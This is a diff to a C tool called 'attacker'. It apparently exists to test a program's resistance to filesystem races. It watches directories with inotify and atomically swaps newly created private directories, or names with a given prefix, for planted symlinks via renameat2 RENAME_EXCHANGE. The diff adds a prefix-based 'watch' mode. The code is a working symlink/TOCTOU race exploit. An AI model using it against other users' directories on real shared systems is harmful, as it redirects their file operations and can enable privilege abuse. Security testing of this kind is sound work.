@@ -3,7 +3,10 @@
  * Started as root, it becomes user nobody before anything else.
  *
  *     attacker run DIR FACE
- *         As soon as somebody makes a private directory in DIR, exchanges it for FACE.
+ *         Waits until somebody makes a private directory in DIR, and exchanges it for FACE at once.
+ *
+ *     attacker watch DIR PREFIX FACE
+ *         Does that to whatever begins with PREFIX.
  *
  *     attacker told DIR FACE
  *         Does that to every name in DIR that it reads in a line from standard input, and prints
@@ -26,6 +29,7 @@
 #include <fcntl.h>
 #include <grp.h>
 #include <limits.h>
+#include <linux/fs.h>
 #include <poll.h>
 #include <pwd.h>
 #include <stdbool.h>
@@ -34,6 +38,7 @@
 #include <string.h>
 #include <sys/inotify.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
 #include <unistd.h>
 
 #define PRIVATE_PREFIX "bonnie."
@@ -41,15 +46,17 @@
 
 struct attack {
     int dir_fd;     /* where the exchanges are made */
-    int events;     /* inotify */
-    int watched;    /* its number for the directory itself */
-    unsigned faces; /* how many were made */
+    int events;     /* descriptor of inotify */
+    int watched;    /* inotify's number for the directory itself */
+    unsigned faces; /* number of faces made so far */
     unsigned long struck;
     unsigned long entered;
-    const char *target;   /* of links that are planted */
-    char bait[NAME_SIZE]; /* what is exchanged next, */
-    int bait_fd;          /* and that, if it is a directory */
-    int led_fd;           /* the directory that somebody was led into last, or -1 */
+    const char *prefix;   /* prefix of names to exchange when somebody makes them; NULL: private
+                             directories */
+    const char *target;   /* target of the links that are planted */
+    char bait[NAME_SIZE]; /* name of what is exchanged next */
+    int bait_fd;          /* its descriptor, if it is a directory */
+    int led_fd;           /* the directory that somebody was last led into, or -1 */
 };
 
 static void fail(const char *what)
@@ -68,7 +75,8 @@ static void become_nobody(void)
         fail("become nobody");
 }
 
-/* ---- what is put in the place of something else ------------------------------------------------
+/*
+ * ---- faces: what replaces something ------------------------------------------------------------
  */
 
 static void make_bait(struct attack *a, const char *target)
@@ -85,7 +93,7 @@ static void make_bait(struct attack *a, const char *target)
         fail("watch a directory");
 }
 
-/* Makes a FACE; its name goes to a->bait. */
+/* Makes a FACE, and stores its name in a->bait. */
 static void make_face(struct attack *a, const char *face)
 {
     const char *value = strchr(face, '=');
@@ -108,11 +116,11 @@ static void make_face(struct attack *a, const char *face)
         close(rc);
 }
 
-/* Puts the bait where `name` is. Where nothing can be exchanged it is done in two steps. */
+/* Replaces `name` by the bait; in two steps where the filesystem cannot exchange names. */
 static bool exchange(struct attack *a, const char *name)
 {
     char aside[NAME_SIZE + 8];
-    if (renameat2(a->dir_fd, a->bait, a->dir_fd, name, RENAME_EXCHANGE) == 0)
+    if (syscall(SYS_renameat2, a->dir_fd, a->bait, a->dir_fd, name, RENAME_EXCHANGE) == 0)
         return true;
     if (errno != EINVAL)
         return false;
@@ -125,7 +133,7 @@ static bool exchange(struct attack *a, const char *name)
 /* ---- run, told: strike once at every private directory -----------------------------------------
  */
 
-/* The bait is used up; where there was nothing any more it is there for the next one. */
+/* Exchanges `name` for the bait. If `name` is gone, the bait is kept for the next one. */
 static bool strike(struct attack *a, const char *name, const char *face)
 {
     if (!exchange(a, name))
@@ -140,7 +148,10 @@ static bool strike(struct attack *a, const char *name, const char *face)
     return true;
 }
 
-/* Somebody works in a directory of ours: have him work where the link points to. */
+/*
+ * Called when somebody works in a directory of ours: replaces it by the link, so that he works in
+ * the link's target.
+ */
 static void lead_astray(struct attack *a, const char *name)
 {
     a->entered++;
@@ -159,7 +170,9 @@ static void on_event(struct attack *a, const struct inotify_event *event, const 
         return;
     if (event->wd != a->watched)
         lead_astray(a, event->name);
-    else if (strncmp(event->name, PRIVATE_PREFIX, strlen(PRIVATE_PREFIX)) == 0 &&
+    else if (a->prefix && strncmp(event->name, a->prefix, strlen(a->prefix)) == 0)
+        strike(a, event->name, face);
+    else if (!a->prefix && strncmp(event->name, PRIVATE_PREFIX, strlen(PRIVATE_PREFIX)) == 0 &&
              (event->mask & IN_ISDIR))
         strike(a, event->name, face);
 }
@@ -176,14 +189,14 @@ static void take_events(struct attack *a, const char *face)
     }
 }
 
-/* True when something is there to be read on the descriptor, an end included; does not wait. */
+/* True when the descriptor can be read without waiting, or is at its end. */
 static bool is_ready(int fd)
 {
     struct pollfd one = {.fd = fd, .events = POLLIN};
     return poll(&one, 1, 0) > 0;
 }
 
-/* Does what the next line says; false at the end. */
+/* Does what the next line says; returns false at the end of the input. */
 static bool obey(struct attack *a, const char *face)
 {
     char line[NAME_SIZE];
@@ -207,7 +220,9 @@ static void attack_runs(struct attack *a, const char *dir, bool by_itself, const
         take_events(a, face);
 }
 
-/* ---- flip: what is at a path is another thing each time it is looked at -------------------------
+/*
+ * ---- flip: a path leads to something else each time
+ * ----------------------------------------------
  */
 
 #define MOST_FACES 8
@@ -226,7 +241,7 @@ static void attack_path(struct attack *a, const char *name, char *faces[], int c
     }
 }
 
-/* Opens the directory of a path; returns what stands behind its last slash. */
+/* Opens the directory of a path; returns the part after its last slash. */
 static const char *open_parent(struct attack *a, const char *path)
 {
     char parent[PATH_MAX];
@@ -250,11 +265,18 @@ int main(int argc, char *argv[])
         if (a.dir_fd < 0)
             fail(argv[2]);
         attack_runs(&a, argv[2], by_itself, argv[3]);
+    } else if (argc == 5 && strcmp(argv[1], "watch") == 0) {
+        a.dir_fd = open(argv[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+        if (a.dir_fd < 0)
+            fail(argv[2]);
+        a.prefix = argv[3];
+        attack_runs(&a, argv[2], true, argv[4]);
     } else if (argc >= 4 && argc <= 3 + MOST_FACES && strcmp(argv[1], "flip") == 0) {
         const char *name = open_parent(&a, argv[2]);
         attack_path(&a, name, argv + 3, argc - 3);
     } else {
-        fprintf(stderr, "usage: attacker run|told DIR FACE | flip PATH FACE...\n");
+        fprintf(stderr,
+                "usage: attacker run|told DIR FACE | watch DIR PREFIX FACE | flip PATH FACE...\n");
         return EXIT_FAILURE;
     }
     printf("struck %lu entered %lu\n", a.struck, a.entered);
